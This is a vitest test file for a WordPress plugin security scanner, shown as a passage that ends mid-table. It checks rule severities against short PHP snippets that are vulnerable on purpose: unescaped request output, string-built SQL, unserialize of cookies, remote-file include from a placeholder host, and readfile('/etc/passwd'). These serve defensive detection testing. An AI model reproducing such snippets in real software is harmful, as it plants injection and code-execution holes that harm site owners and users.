import { describe, expect, test } from 'vitest'
import { securityRules } from '#wordpress/security/index.ts'
import { samples } from './samples.ts'
import { findingsIn, linesOf, markedLines } from './support.ts'

/** Rules that no single snippet can break: tested below and in `robustness.test.ts`. */
const elsewhere = ['core-library', 'too-deep']

describe.each(Object.entries(samples))('%s', (rule, { good, bad }) => {
  test.each(bad)('is reported at every marked line, and nowhere else: %j', async (code) => {
    const lines = await linesOf(rule, code)
    expect([...lines].sort((a, b) => a - b)).toEqual(markedLines(code))
    expect(lines.length).toBeGreaterThan(0)
  })

  test.each(good)('is not reported in: %j', async (code) => {
    expect(await linesOf(rule, code)).toEqual([])
  })
})

test('every rule has samples', () => {
  expect([...Object.keys(samples), ...elsewhere].map((name) => `security/${name}`).sort()).toEqual(
    securityRules.map(({ id }) => id).sort(),
  )
})

test("every rule has a name, a reason, a fix and a link to WordPress's documentation", () => {
  for (const { id, title, why, mend, link } of securityRules) {
    expect(id).toMatch(/^security\/[a-z-]+$/)
    for (const text of [title, why, mend]) expect(text.length).toBeGreaterThan(15)
    expect(link).toMatch(/^https:\/\/developer\.wordpress\.org\//)
  }
})

test('a finding has its location and everything a reader needs', async () => {
  const [found] = await findingsIn({ 'a/b.php': "<?php\nfunction tide_a() {\n\techo $_GET['x'] ?? '';\n}" })
  expect(found).toMatchObject({ rule: 'security/escape-output', severity: 'error', file: 'a/b.php', line: 3 })
  expect(found).toHaveProperty('link')
})

test('a copy of a library bundled with WordPress is recognized by its name', async () => {
  const found = await findingsIn({
    'js/jquery-3.7.1.min.js': '1',
    'js/jquery.tide.js': '1',
    'js/react.js': '1',
  })
  expect(found.map(({ file }) => file)).toEqual(['js/jquery-3.7.1.min.js', 'js/react.js'])
})

test('values are followed from file to file', async () => {
  const found = await findingsIn({
    'a.php': '<?php\nfunction tide_show( $text ) {\n\techo $text;\n}',
    'b.php': "<?php\ntide_show( $_GET['x'] ?? '' );",
    'c.php': '<?php\nclass Tide_A {\n\tpublic static $x;\n}\nfunction tide_b() {\n\techo Tide_A::$x;\n}',
    'd.php': "<?php\nfunction tide_c() {\n\tTide_A::$x = get_option( 'tide_x' );\n}",
  })
  expect(
    found.filter(({ rule }) => rule === 'security/escape-output').map(({ file, line }) => [file, line]),
  ).toEqual([
    ['a.php', 3],
    ['c.php', 6],
  ])
})

test('a file included within a function is not treated as loaded early', async () => {
  const page = "<?php\nwp_enqueue_script( 'tide-x', 'x.js', array(), '1', true );"
  const found = async (main: string): Promise<string[]> =>
    (await findingsIn({ 'tide-table.php': `<?php\n${main}`, 'pages/show.php': page }))
      .filter(({ rule }) => rule === 'security/enqueue')
      .map(({ file }) => file ?? '')
  expect(await found("require __DIR__ . '/pages/show.php';")).toEqual(['pages/show.php'])
  expect(await found("function tide_a() { require __DIR__ . '/pages/show.php'; }")).toEqual([])
  expect(await found("function tide_a( $p ) { require __DIR__ . '/pages/' . $p . '.php'; }")).toEqual([])
})

describe('a finding', () => {
  const certaintyOf = async (rule: string, code: string) => {
    const found = (await findingsIn({ 'tide-table.php': `<?php\n${code}` })).find(
      (each) => each.rule === rule,
    )
    return found && `${found.severity} ${found.certainty}`
  }

  test.each([
    ['security/escape-output', "function tide_a() { echo $_GET['x'] ?? ''; }", 'error certain'],
    ['security/escape-output', 'function tide_a() { echo other_label(); }', 'warning possible'],
    ['security/escape-translation', "_e( 'Tide', 'tide-table' );", 'warning certain'],
    [
      'security/sanitize-input',
      "function tide_a() { update_option( 'tide_x', $_POST['x'] ?? '' ); }",
      'error certain',
    ],
    ['security/sanitize-input', "function tide_a() { other_keep( $_POST['x'] ?? '' ); }", 'warning possible'],
    ['security/hidden-call', "function tide_a() { $f = $_GET['f'] ?? ''; $f(); }", 'error certain'],
    [
      'security/hidden-call',
      "function tide_a( $o ) { $f = $_GET['f'] ?? ''; $o->$f(); }",
      'warning possible',
    ],
    [
      'security/sanitize-input',
      "class Tide_A { public function in() { return $_POST['x'] ?? ''; } public function go() { update_option( 'tide_x', $this->in() ); } }",
      'warning possible',
    ],
    [
      'security/include-input',
      "function tide_a() { $s = sanitize_text_field( $_GET['s'] ?? '' ); $steps = array( 'a' => 1 ); if ( ! $steps[ $s ] ) { include __DIR__ . \"/$s.php\"; } }",
      'error certain',
    ],
    [
      'security/safe-redirect',
      "class Tide_A { private $to; public function in() { $this->to = $_GET['to'] ?? ''; }\npublic function go() { wp_redirect( $this->to ); exit; } }",
      'warning possible',
    ],
    [
      'security/safe-redirect',
      "function tide_a() { header( 'Location: http://' . $_SERVER['HTTP_HOST'] ); exit; }",
      'warning possible',
    ],
    [
      'security/hidden-call',
      "function tide_a( $o ) { $m = 'draw_' . base64_decode( get_option( 'tide_x' ) ); $o->$m(); }",
      'warning possible',
    ],
    [
      'security/file-write',
      "define( 'TIDE_CONTENT', dirname( WP_PLUGIN_DIR ) );\nfunction tide_a() { mkdir( TIDE_CONTENT . '/cache/tide' ); }",
      'warning possible',
    ],
    [
      'security/sanitize-input',
      "function tide_a() { file_put_contents( wp_tempnam( 'tide' ), wp_unslash( $_POST['csv'] ?? '' ) ); }",
      'warning possible',
    ],
    [
      'security/hidden-call',
      "function tide_a() { $c = 'Tide_Action_' . ( $_GET['c'] ?? '' ); return new $c(); }",
      'warning possible',
    ],
    [
      'security/hidden-call',
      "function tide_log( $m ) { if ( is_callable( $m ) ) { $m(); } }\nfunction tide_a() { tide_log( $_GET['m'] ?? '' ); }",
      'warning possible',
    ],
    [
      'security/remote-code',
      "function tide_a() { $n = wp_remote_retrieve_body( wp_remote_get( 'https://a.example' ) ); include __DIR__ . '/parts/' . $n . '.php'; }",
      'warning possible',
    ],
    [
      'security/nonce',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { tide_clean_up(); }\nfunction tide_clean_up() { delete_option( 'tide_x' ); }",
      'error certain',
    ],
    [
      'security/nonce',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { update_option( 'tide_x', absint( $_POST['x'] ?? 0 ) ); }",
      'error certain',
    ],
    [
      'security/nonce',
      "add_action( 'template_redirect', 'tide_a' );\nfunction tide_a() { if ( isset( $_GET['tide_key'] ) ) { delete_option( 'tide_x' ); } }",
      'warning possible',
    ],
    [
      'security/capability',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { update_option( 'tide_x', 1 ); }",
      'error certain',
    ],
    [
      'security/capability',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { check_ajax_referer( 'tide' ); update_option( 'tide_x', 1 ); }",
      'warning possible',
    ],
    [
      'security/hidden-call',
      "class Tide_A { private $f; public function in() { $this->f = $_GET['f'] ?? ''; }\npublic function go() { call_user_func( $this->f ); } }",
      'warning possible',
    ],
    [
      'security/nonce',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { tide_b( absint( $_POST['x'] ?? 0 ) ); }\nfunction tide_b( $x ) { tide_c( $x ); }\nfunction tide_c( $x ) { update_option( 'tide_x', $x ); }",
      'warning possible',
    ],
    [
      'security/capability',
      "add_action( 'admin_init', 'tide_a' );\nfunction tide_a() { if ( isset( $_POST['x'] ) ) { update_option( 'tide_x', absint( $_POST['x'] ) ); } }",
      'error certain',
    ],
    [
      'security/escape-output',
      "function tide_a( $tab ) {\n$rows = array( 'a' => array( 'title' => 'A' ), 'b' => array( 'title' => get_option( 'tide_b' ) ) );\necho $rows[ $tab ]['title']; }",
      'warning possible',
    ],
    [
      'security/escape-output',
      "add_shortcode( 'tide', 'tide_a' );\nfunction tide_a() { global $tide; $tide['x'] = get_option( 'tide_x' ); return $tide['x']; }",
      'warning possible',
    ],
    [
      'security/prepared-sql',
      "class Tide_A { private $q; public function in() { $this->q = $_GET['q'] ?? ''; }\npublic function go() { global $wpdb; if ( isset( $_POST['go'] ) ) { $_POST['go']; }\n$wpdb->query( 'DELETE FROM x WHERE y = ' . $this->q ); } }",
      'warning possible',
    ],
    [
      'security/prepared-sql',
      'function tide_a() { global $wpdb; $s = strip_tags( filter_input( INPUT_POST, \'s\' ) );\n$wpdb->query( "SELECT 1 FROM x WHERE y = \'" . $s . "\'" ); }',
      'error certain',
    ],
    [
      'security/remote-code',
      "function tide_a( $n ) { file_put_contents( __DIR__ . '/' . $n, wp_remote_retrieve_body( wp_remote_get( 'https://a.example' ) ) ); }",
      'warning possible',
    ],
    [
      'security/escape-output',
      'function tide_a() { foreach ( get_posts() as $p ) { echo $p->flag; } }',
      'warning possible',
    ],
    [
      'security/escape-output',
      "function tide_a() { echo get_transient( 'tide_html' ); }",
      'warning possible',
    ],
    [
      'security/unserialize',
      "class Tide_A { private $v; public function in() { $this->v = $_POST['v'] ?? ''; }\npublic function out() { return unserialize( $this->v ); } }",
      'warning possible',
    ],
    [
      'security/unserialize',
      "function tide_a() { return unserialize( $_COOKIE['x'] ?? '' ); }",
      'error certain',
    ],
    ['security/file-write', "file_put_contents( __DIR__ . '/tide.css', 'a' );", 'error certain'],
    [
      'security/file-write',
      "function tide_open( $f ) { return fopen( $f, 'w' ); }\nfunction tide_a() { tide_open( __DIR__ . '/tide.css' ); }",
      'warning possible',
    ],
    ['security/server-files', "readfile( '/etc/passwd' );", 'error certain'],
    ['security/file-write', "unlink( ABSPATH . 'tide.txt' );", 'warning possible'],
  ])('of %s in %j is: %s', async (rule, code, expected) => {
    expect(await certaintyOf(rule, code)).toBe(expected)
  })

  test.each([
    [
      "define( 'TIDE_STYLE', get_option( 'tide_style' ) );\nfunction tide_a() { echo TIDE_STYLE; }",
      'warning',
    ],
    [
      'function tide_a() { foreach ( get_posts() as $p ) { echo $p->flag ? $p->flag : esc_html( $p->x ); } }',
      'warning',
    ],
    [
      "function tide_a() { echo tide_lines( sanitize_text_field( wp_unslash( $_GET['x'] ?? '' ) ) ); }\nfunction tide_lines( $x ) { return '<p>' . $x; }",
      'warning',
    ],
    [
      "class Tide { public function a() { echo $this->row( $_GET['x'] ?? '' ); }\nprivate function row( $x ) { return '<p>' . $x . '</p>'; } }",
      'warning',
    ],
    ["function tide_a() { echo '<p>' . ( $_GET['x'] ?? '' ); }", 'error'],
    ["function tide_a() { echo file_get_contents( __DIR__ . '/a.html' ); }", undefined],
    ['function tide_a() { foreach ( get_posts() as $p ) { echo $p->tide_date; } }', undefined],
    [
      "class Tide { private $x = array(); public function a() { $this->x['a'] = '<p>'; $this->x['b'] = $_GET['x'] ?? ''; echo $this->get_value( 'b' ); }\nprivate function get_value( $k ) { return '<p>' . $this->x[ $k ]; } }",
      'warning',
    ],
    ["function tide_print_css() { echo 'a{color:' . get_option( 'tide_x' ) . '}'; }", 'warning'],
    ["function tide_print_css() { echo $_GET['x'] ?? ''; }", 'error'],
    ['function tide_csv() { foreach ( get_posts() as $p ) { echo $p->post_title; } }', 'warning'],
    ['function tide_a() { foreach ( get_posts() as $p ) { echo $p->tide_id; } }', undefined],
    ["function tide_a() { echo sanitize_text_field( wp_unslash( $_GET['x'] ?? '' ) ); }", 'error'],
    ["function tide_a() { echo get_option( 'tide_x' ); }", 'error'],
    // Of unknown origin: what is taken out of an array or object of somebody else is, what a function answers or a template is handed is not.
    ['function tide_a( $row ) { echo $row->note; }', 'warning'],
    ['function tide_a( $row ) { echo $row->kind_of_tide; }', undefined],
    ["function tide_a( $row ) { echo '<input value=\"' . $row->kind_of_tide . '\">'; }", 'warning'],
    ["function tide_a( $instance ) { echo '<b>' . $instance['tide'] . '</b>'; }", 'warning'],
    ['class Tide { private $note; public function a() { echo $this->note; } }', undefined],
    ["function tide_a( $row ) { echo nl2br( $row['note'] ); }", 'warning'],
    ["function tide_a( $row ) { echo isset( $row['note'] ) ? $row['note'] : ''; }", 'warning'],
    ['function tide_a( $row ) { $note = $row->note; echo "<p>$note</p>"; }', 'warning'],
    ['function tide_a( $row ) { foreach ( $row->notes as $note ) { echo $note; } }', 'warning'],
    ['function tide_a( $note ) { echo "<p>$note</p>"; }', undefined],
    ['function tide_a() { $note = other_note(); echo $note; }', undefined],
    ['function tide_a( $other ) { echo $other->draw_it(); }', undefined],
    ["function tide_a( $order ) { echo $order->get_meta( 'note' ); }", 'warning'],
    ['function tide_a( $order ) { echo $order->get_billing_email(); }', 'warning'],
    ["function tide_a() { echo '<a href=\"' . add_query_arg( 'a', 1 ) . '\">'; }", 'warning'],
    ['function tide_a() { echo strtoupper( __tide( "and" ) ); }', undefined],
    ['function tide_a() { the_post(); echo "<p>" . get_the_title() . "</p>"; }', undefined],
    ["function tide_a() { the_post(); echo '<a title=\"' . get_the_title() . '\">'; }", 'warning'],
    ["function tide_a( $fields, $id ) { echo $fields[ $id ]['placeholder']; }", undefined],
    ["function tide_a( $fields, $id ) { echo $fields[ $id ]['value']; }", 'warning'],
    ['function tide_a( $row ) { ?><script>var x = <?php echo $row->map; ?>;</script><?php }', undefined],
    // HTML that a function of the plugin has put together, and HTML that is put together here.
    [
      "function tide_a() { echo tide_rows(); }\nfunction tide_rows() { return '<p>' . get_option( 'tide_x' ) . '</p>'; }",
      undefined,
    ],
    [
      "function tide_a() { echo tide_label(); }\nfunction tide_label() { return get_option( 'tide_x' ); }",
      'warning',
    ],
    [
      "function tide_a() { $rows = tide_rows(); echo $rows; }\nfunction tide_rows() { return '<p>' . get_option( 'tide_x' ) . '</p>'; }",
      undefined,
    ],
    ["function tide_a() { $h = '<p>'; $h .= get_option( 'tide_note' ); echo $h; }", 'warning'],
    [
      "function tide_a() { $h = '<p>'; $h .= tide_rows() . '</p>'; echo $h; }\nfunction tide_rows() { return '<b>' . get_option( 'tide_note' ); }",
      'warning',
    ],
    [
      "function tide_a( $rank ) { foreach ( $rank as $row ) { echo $row['wins'] . $row['matches'][0]; } }",
      undefined,
    ],
    [
      "add_shortcode( 'tide', 'tide_a' );\nfunction tide_a( $a ) { return tide_rows( $a ); }\nfunction tide_rows( $a ) { return '<p>' . $a['x'] . '</p>'; }",
      undefined,
    ],
    [
      "add_shortcode( 'tide', 'tide_a' );\nfunction tide_a( $a ) { return '<p>' . $a['x'] . '</p>'; }",
      'warning',
    ],
    // What its owner has entered to be run, what WordPress says of plugins and themes.
    ["function tide_a() { $o = get_option( 'tide' ); echo $o['custom_css']; }", undefined],
    ["function tide_a() { $o = get_option( 'tide' ); echo $o['note']; }", 'error'],
    [
      "function tide_a() { $d = get_plugin_data( __FILE__ ); echo $d['Title'] . wp_get_theme()->Name; }",
      undefined,
    ],
    // What of the request has taken a way that is not known.
    [
      "class Tide { private $n; public function in() { $this->n = $_GET['n'] ?? ''; return $this; }\npublic function n() { return $this->n . '!'; } }\nfunction tide_a() { $t = new Tide(); $t->in(); $n = $t->n(); echo $n; }",
      undefined,
    ],
    [
      "function tide_a() { $n = tide_pick( $_GET, 'n' ); echo '<p>' . $n; }\nfunction tide_pick( $from, $key ) { return isset( $from[ $key ] ) ? trim( $from[ $key ] ) : ''; }",
      'warning',
    ],
    [
      "function tide_a() { tide_note( $_GET['n'] ?? '' ); }\nfunction tide_note( $n ) { echo $n; }",
      'warning',
    ],
  ])('of output in a plugin of others, in %j, is of severity: %s', async (code, severity) => {
    const found = await findingsIn({ 'tide-table.php': `<?php\n${code}` }, 'tide-table', true)
    expect(found.find(({ rule }) => rule === 'security/escape-output')?.severity).toBe(severity)
  })

  test.each([
    // Where a value was read, and what it went through.
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; $o = tide_pick( $_GET['o'] ?? '' );\n$wpdb->query( 'SELECT 1 ORDER BY ' . $o ); }\nfunction tide_pick( $o ) { return trim( $o ); }",
      'warning',
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; $o = sanitize_text_field( wp_unslash( $_GET['o'] ?? '' ) );\n$wpdb->query( 'SELECT 1 ORDER BY ' . $o ); }",
      'error',
    ],
    [
      'prepared-sql',
      "class Tide { private $o; public function in() { $this->o = sanitize_text_field( $_GET['o'] ); }\npublic function go() { global $wpdb; $_GET['p'];\n$wpdb->query( 'SELECT 1 ORDER BY ' . $this->o ); } }",
      'warning',
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; if ( isset( $_GET['i'] ) && ( preg_match( '/^[0-9]+$/', $_GET['i'] ) == 1 ) ) {\n$wpdb->query( 'DELETE FROM x WHERE y = ' . $_GET['i'] ); } }",
      undefined,
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; if ( preg_match( '/^[0-9]+$/', $_GET['i'] ) !== 1 ) { return; }\n$wpdb->query( 'DELETE FROM x WHERE y = ' . $_GET['i'] ); }",
      undefined,
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; if ( preg_match( '/^[0-9]+$/', $_GET['i'] ) == 0 ) {\n$wpdb->query( 'DELETE FROM x WHERE y = ' . $_GET['i'] ); } }",
      'error',
    ],
    [
      'prepared-sql',
      "add_filter( 'posts_where', 'tide_w' );\nfunction tide_w( $w ) { return $w . ' AND x = ' . $_GET['x']; }",
      'error',
    ],
    [
      'prepared-sql',
      "add_filter( 'posts_where', 'tide_w' );\nfunction tide_w( $w ) { return $w . ' AND x = ' . get_option( 'tide_x' ); }",
      'warning',
    ],
    [
      'safe-redirect',
      "function tide_a() { wp_redirect( tide_url( $_GET['u'] ) ); exit; }\nfunction tide_url( $u ) { return trim( $u ); }",
      'warning',
    ],
    ['safe-redirect', "function tide_a() { wp_redirect( $_GET['u'] ); exit; }", 'error'],
    [
      'safe-redirect',
      "function tide_a() { wp_redirect( add_query_arg( 'a', $_POST['a'], $_SERVER['HTTP_REFERER'] ) ); exit; }",
      'warning',
    ],
    [
      'include-input',
      "class Tide { private $d; public function in() { $this->d = $_POST['d']; }\npublic function out() { $_GET['a']; include $this->d . 'a.php'; } }",
      'warning',
    ],
    ['include-input', "function tide_a() { include $_GET['f']; }", 'error'],
    [
      'remote-code',
      "define( 'TIDE_DIR', wp_remote_retrieve_body( wp_remote_get( 'https://a.example' ) ) );\nfunction tide_a() { include TIDE_DIR . '/a.php'; }",
      'warning',
    ],
    ['remote-code', "include 'https://a.example/a.php';", 'error'],
    [
      'sanitize-input',
      "function tide_a() { check_admin_referer( 'a' ); update_option( 'tide_a', tide_form( $_POST['a'] ) ); }\nfunction tide_form( $x ) { return '-' . $x; }",
      'warning',
    ],
    // Files.
    ['file-write', "function tide_a() { unlink( '/tide/' . $_GET['f'] ); }", 'error'],
    [
      'file-write',
      "function tide_a() { unlink( '/tide/' . sanitize_text_field( $_GET['f'] ) ); }",
      'warning',
    ],
    ['file-write', "chmod( __DIR__ . '/a.txt', 0644 );", undefined],
    ['file-write', "copy( 'a', __DIR__ . '/a.txt' );", 'error'],
    [
      'file-write',
      "function tide_a( $f ) { copy( 'a', $f ); }\nfunction tide_b() { tide_a( __DIR__ . '/a.txt' ); }",
      undefined,
    ],
    ['file-write', "chmod( ABSPATH . '.htaccess', 0404 );", 'warning'],
    ['file-write', "file_put_contents( ABSPATH . '.htaccess', 'a' );", 'error'],
    // What is printed.
    [
      'escape-output',
      'function tide_a() { foreach ( get_posts() as $p ) { echo $p->tide_width; } }',
      undefined,
    ],
    [
      'escape-output',
      'function tide_a() { foreach ( get_users() as $u ) { echo $u->user_login; } }',
      undefined,
    ],
    [
      'escape-output',
      'function tide_a() { foreach ( get_users() as $u ) { echo $u->display_name; } }',
      'error',
    ],
    ['escape-output', "function tide_a() { echo get_post_meta( 1, 'tide_per_page', true ); }", 'warning'],
    ['escape-output', "function tide_a() { echo get_post_meta( 1, 'tide_note', true ); }", 'error'],
    ['escape-output', "function tide_a() { echo get_option( 'blog_charset' ); }", undefined],
    [
      'escape-output',
      "function tide_a() { foreach ( get_option( 'tide_rows' ) as $name => $row ) { echo $name; } }",
      undefined,
    ],
    [
      'escape-output',
      "function tide_a() { foreach ( $_POST['rows'] as $name => $row ) { echo $name; } }",
      'error',
    ],
    [
      'escape-output',
      "function tide_a() { $m = '<p>' . sanitize_text_field( $_POST['m'] ) . '</p>'; echo $m; }",
      'warning',
    ],
    ['escape-output', "function tide_a() { $m = '<p>' . $_POST['m'] . '</p>'; echo $m; }", 'error'],
    ['escape-output', "function tide_a() { echo apply_filters( 'tide_m', $_GET['m'] ); }", 'warning'],
    [
      'escape-output',
      "function tide_a( $id ) { header( 'Content-Type: ' . get_post_mime_type( $id ) ); echo file_get_contents( get_attached_file( $id ) ); }",
      undefined,
    ],
    ['escape-output', "function tide_download_feed() { echo get_option( 'tide_x' ); }", 'warning'],
    ['escape-output', "function tide_a() { echo get_option( 'tide_log_dir' ); }", 'warning'],
    [
      'escape-output',
      'function tide_a() { foreach ( get_users() as $u ) { echo "by {$u->user_email}"; } }',
      undefined,
    ],
    [
      'escape-output',
      'function tide_a() { foreach ( get_users() as $u ) { echo "by {$u->display_name}"; } }',
      'error',
    ],
    ['escape-output', "function tide_a() { echo get_option( 'tide_tracking_code' ); }", undefined],
    [
      'escape-output',
      "function tide_a() { $f = wp_handle_upload( $_FILES['f'], array( 'test_form' => true ) ); echo $f['url']; }",
      undefined,
    ],
    [
      'escape-output',
      "class Tide { private $t; public function __construct( $t ) { $this->t = $t; } public function a() { echo $this->get_text( 'tide_title' ); }\nprivate function get_text( $k ) { return $this->t[ $k ]; } }",
      undefined,
    ],
    [
      'escape-output',
      "class Tide { private $t; public function __construct( $t ) { $this->t = $t; } public function a() { echo $this->get_option( 'tide_title' ); }\nprivate function get_option( $k ) { return $this->t[ $k ]; } }",
      'warning',
    ],
    [
      'escape-output',
      "function tide_a( $x ) { echo wp_sprintf( '%s', esc_html( $x ) ); echo get_bloginfo( 'charset' ); }",
      undefined,
    ],
    [
      'escape-output',
      "class Tide { public static $t; public function a() { echo Tide::_( 'Save' ); }\npublic static function _( $k ) { return self::$t[ $k ]; } }",
      undefined,
    ],
    [
      'prepared-sql',
      'function tide_a() { global $wpdb, $tide_x, $tide_y; $q = "DROP TABLE $tide_x, $tide_y"; $wpdb->query( $q ); }',
      undefined,
    ],
    [
      'prepared-sql',
      'function tide_a() { global $wpdb, $tide_x, $tide_y; $q = "SELECT 1 FROM $tide_x"; $q .= " ORDER BY $tide_y"; $wpdb->query( $q ); }',
      undefined,
    ],
    [
      'prepared-sql',
      'function tide_a() { global $wpdb, $tide_x, $tide_y; $q = "SELECT 1 FROM $tide_x"; $q .= " WHERE y = $tide_y"; $wpdb->query( $q ); }',
      'warning',
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; foreach ( get_posts() as $p ) { $wpdb->query( 'DELETE FROM x WHERE p = ' . $p->tide_id ); } }",
      undefined,
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; foreach ( get_posts() as $p ) { $wpdb->query( 'DELETE FROM x WHERE p = ' . $p->tide_p ); } }",
      'warning',
    ],
    [
      'prepared-sql',
      "function tide_a() { global $wpdb; $o = tide_sanitize_order( $_GET['o'] ?? '' );\n$wpdb->query( 'SELECT 1 ORDER BY ' . $o ); }\nfunction tide_sanitize_order( $o ) { return trim( $o ); }",
      undefined,
    ],
    [
      'prepared-sql',
      "function tide_a( $q ) { global $wpdb; $q = str_replace( '#', '1', $q ); $wpdb->query( $q ); }\nfunction tide_b() { tide_a( 'SELECT # WHERE x = ' . $_GET['x'] ); }",
      undefined,
    ],
    // What only looks something up keeps nothing; secrets and what the server says are sent on as they came.
    [
      'sanitize-input',
      "function tide_a() { global $wpdb; return $wpdb->get_row( tide_query( $_GET['x'] ?? '' ) ); }\nfunction tide_query( $x ) { global $wpdb; return $wpdb->prepare( 'SELECT 1 WHERE x = %s', $x ); }",
      undefined,
    ],
    ['sanitize-input', "function tide_a() { other_send( $_POST['api_key'] ?? '' ); }", undefined],
    ['sanitize-input', "function tide_a() { other_send( $_SERVER['HTTP_REFERER'] ?? '' ); }", undefined],
    ['sanitize-input', "function tide_a() { other_send( $_POST['name'] ?? '' ); }", 'warning'],
    ['sanitize-input', "function tide_a() { other_look( $_POST['name'] ?? '' ); }", undefined],
    ['sanitize-input', "function tide_a( $o ) { $o->setName( $_POST['name'] ?? '' ); }", 'warning'],
    ['sanitize-input', "function tide_a() { set_transient( 'x', $_POST['name'] ?? '' ); }", 'error'],
    [
      'capability',
      "add_action( 'wp_ajax_tide', 'tide_never_show' );\nfunction tide_never_show() { check_ajax_referer( 'tide' ); update_option( 'tide_a', 1 ); }",
      undefined,
    ],
    [
      'capability',
      "add_action( 'wp_ajax_tide', 'tide_keep' );\nfunction tide_keep() { check_ajax_referer( 'tide' ); update_option( 'tide_a', 1 ); }",
      'warning',
    ],
    [
      'sanitize-input',
      "function tide_a() { update_option( 'x', $_SERVER['HTTP_REFERER'] ?? '' ); }",
      'warning',
    ],
    // What has taken a way that is not known.
    [
      'hidden-call',
      "class Tide { private $f; public function in() { $this->f = $_GET['f'] ?? ''; }\npublic function f() { return trim( $this->f ); } }\nfunction tide_a() { $t = new Tide(); $t->in(); $f = $t->f(); $f(); }",
      undefined,
    ],
    [
      'include-input',
      "class Tide { private $f; public function in() { $this->f = $_GET['f'] ?? ''; }\npublic function f() { return trim( $this->f ); } }\nfunction tide_a() { $t = new Tide(); $t->in(); include __DIR__ . '/' . $t->f(); }",
      undefined,
    ],
    [
      'include-input',
      "class Tide { private $f; public function in() { $this->f = $_GET['f'] ?? ''; }\npublic function go() { include __DIR__ . '/' . $this->f; } }",
      'warning',
    ],
    [
      'escape-output',
      "class Tide { public function a() { echo $this->get_tides_select(); }\nprivate function get_tides_select() { $x = '<select>'; foreach ( get_posts() as $p ) { $x .= '<option>' . $p->post_title . '</option>'; } return $x; } }",
      'warning',
    ],
    [
      'include-input',
      "define( 'TIDE_DIR', get_option( 'tide_dir' ) );\nfunction tide_a() { include TIDE_DIR . '/a.php'; }",
      undefined,
    ],
    ['include-input', "function tide_a() { include get_option( 'tide_dir' ) . '/a.php'; }", undefined],
    [
      'safe-redirect',
      "class Tide { private $u; public function __construct( $u ) { $this->u = $u; } public function a() { wp_redirect( add_query_arg( 'a', 1, $this->u ) ); exit; } }",
      undefined,
    ],
    // Handlers.
    [
      'nonce',
      "add_action( 'admin_init', 'tide_a' );\nfunction tide_a() { if ( ! isset( $_GET['multi'] ) ) { update_option( 'tide_a', 1 ); } }",
      undefined,
    ],
    [
      'nonce',
      "add_action( 'admin_init', 'tide_a' );\nfunction tide_a() { if ( ! isset( $_GET['go'] ) ) { return; } update_option( 'tide_a', 1 ); }",
      'error',
    ],
    [
      'nonce',
      "add_action( 'admin_init', 'tide_a' );\nfunction tide_a() { if ( ! empty( $_GET['go'] ) ) { update_option( 'tide_a', 1 ); } }",
      'error',
    ],
    [
      'nonce',
      "add_action( 'admin_init', 'tide_a' );\nfunction tide_a() { if ( isset( $_POST['go'] ) ) { tide_save(); } }\nfunction tide_save() { check_admin_referer( 'tide' ); update_option( 'tide_a', 1 ); }",
      undefined,
    ],
    [
      'nonce',
      "add_action( 'admin_init', 'tide_webhook' );\nfunction tide_webhook() { update_option( 'tide_a', $_POST['a'] ); }",
      undefined,
    ],
    [
      'nonce',
      "add_action( 'admin_init', 'tide_listener' );\nfunction tide_listener() { update_option( 'tide_a', $_POST['a'] ); }",
      'warning',
    ],
    [
      'capability',
      "add_action( 'init', 'tide_confirm_email' );\nfunction tide_confirm_email() { global $wpdb; if ( isset( $_GET['m'] ) ) { $wpdb->update( 'x', array( 'ok' => 1 ), array( 'm' => $_GET['m'] ) ); } }",
      'warning',
    ],
    [
      'nonce',
      "add_action( 'init', 'tide_enter' );\nfunction tide_enter() { if ( isset( $_POST['log'] ) ) { wp_signon(); update_option( 'tide_last', 1 ); } }",
      'warning',
    ],
    [
      'capability',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { global $wpdb, $user_ID; $wpdb->delete( 'x', array( 'id' => (int) $_POST['id'], 'owner' => $user_ID ) ); }",
      'warning',
    ],
    [
      'capability',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { global $wpdb, $user_ID; $wpdb->delete( 'x', array( 'id' => (int) $_POST['id'] ) ); }",
      'error',
    ],
    [
      'capability',
      "add_action( 'wp_ajax_tide', 'tide_a' );\nfunction tide_a() { global $user_ID; update_user_meta( $user_ID, 'tide_a', 1 ); }",
      undefined,
    ],
  ])('of %s in a plugin of others, in %j, is of severity: %s', async (rule, code, severity) => {
    const found = await findingsIn({ 'tide-table.php': `<?php\n${code}` }, 'tide-table', true)
    expect(found.find((each) => each.rule === `security/${rule}`)?.severity).toBe(severity)
  })

  test.each([
    ['inc/a.php', 'error'],
    ['grunt/a.php', 'warning'],
    ['docs/examples/a.php', 'warning'],
  ])('of output in %s of a plugin of others is of severity: %s', async (file, severity) => {
    const found = await findingsIn({ [file]: "<?php\necho $_GET['x'];" }, 'tide-table', true)
    expect(found.find(({ rule }) => rule === 'security/escape-output')?.severity).toBe(severity)
  })

  test.each([
    "if ( php_sapi_name() !== 'cli' ) { exit; }",
    "if ( 'cli' !== PHP_SAPI ) { exit; }",
    'use Composer\\Script\\Event;',
    'class Tide_Command extends WP_CLI_Command {}',
  ])('in a file that is run by hand is a warning: %s', async (head) => {
    const found = await findingsIn({ 'inc/a.php': `<?php\n${head}\necho $_GET['x'];` }, 'tide-table', true)
    expect(found.find(({ rule }) => rule === 'security/escape-output')?.severity).toBe('warning')
  })

  test.each([
    ["register_setting( 'tide', 'tide_x', 'tide_clean' );", 'warning'],
    ["register_setting( 'tide', 'tide_x', array( 'sanitize_callback' => 'tide_clean' ) );", 'warning'],
    ["register_setting( 'tide', 'tide_x', array( $this, 'validate_x' ) );", 'warning'],
    ["register_setting( 'tide', 'tide_x', function ( $x ) { return sanitize_key( $x ); } );", 'warning'],
    ["register_setting( 'tide', 'tide_x', function ( $x ) { return trim( $x ); } );", 'error'],
    ["register_setting( 'tide', 'tide_x', array( $this, 'keep' ) );", 'error'],
